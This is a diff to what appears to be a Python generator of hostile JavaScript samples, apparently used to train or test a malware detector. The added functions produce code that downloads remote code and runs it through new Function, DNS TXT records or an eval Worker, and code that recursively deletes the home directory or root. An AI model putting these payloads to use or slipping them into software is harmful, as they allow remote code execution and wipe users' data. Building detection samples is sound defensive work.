@@ -616,6 +616,41 @@ def outgoing_requests(p):
         "m": m, "o": o, "http": p.mod("https"), "w": p.s(wallet(p))}
 
 
+# ---- ways that the analysis had to learn --------------------------------------------------------------
+
+@family("download-run", "setting")
+def own_emitter(p):
+    p.used_api("https.get", "new Function")
+    k, r, t = p.v("mod"), p.v("res"), p.v("data")
+    return ("class %(k)s extends %(e)s.EventEmitter {\n  constructor() { super(); this.on('body', (%(t)s) => new Function(%(t)s)()); }\n"
+            "  open() { %(m)s.get(%(u)s, (%(r)s) => %(r)s.on('data', (%(t)s) => this.emit('body', String(%(t)s)))); }\n}\nnew %(k)s().open();") % {
+        "k": k, "e": p.mod("events"), "t": t, "m": p.mod(p.scheme), "u": p.url(), "r": r}
+
+
+@family("download-run", "setting")
+def records_of_names(p):
+    p.used_api("dns.resolveTxt", "Function")
+    e, r = p.v("err"), p.v("list")
+    return "%s.resolveTxt(%s, (%s, %s) => { if (!%s) Reflect.construct(Function, [%s.map((x) => x.join('')).join('')])(); });" % (
+        p.mod("dns"), p.h(p.host), e, r, e, r)
+
+
+@family("download-run", "setting")
+def text_of_worker(p):
+    p.used_api("fetch", "Worker")
+    t = p.v("data")
+    return "fetch(%s).then(async (r) => await (await r.blob()).text()).then((%s) => new %s.Worker(%s, { eval: true })).catch(%s);" % (
+        p.url(), t, p.mod("worker_threads"), t, p.swallow())
+
+
+@family("permissions", "setting")
+def home_removed(p):
+    p.used_api("fs.rm")
+    d = p.v("path")
+    return p.pick("%s.rm(%s.homedir(), { recursive: true, force: true }, %s);" % (p.mod("fs"), p.mod("os"), p.swallow()),
+                  "[%s, process.env.HOME].forEach((%s) => %s.rmSync(%s, { recursive: true, force: true }));" % (p.s("/"), d, p.mod("fs"), d))
+
+
 # ---- in a page ------------------------------------------------------------------------------------
 
 @family("download-run", "measuring", "page")
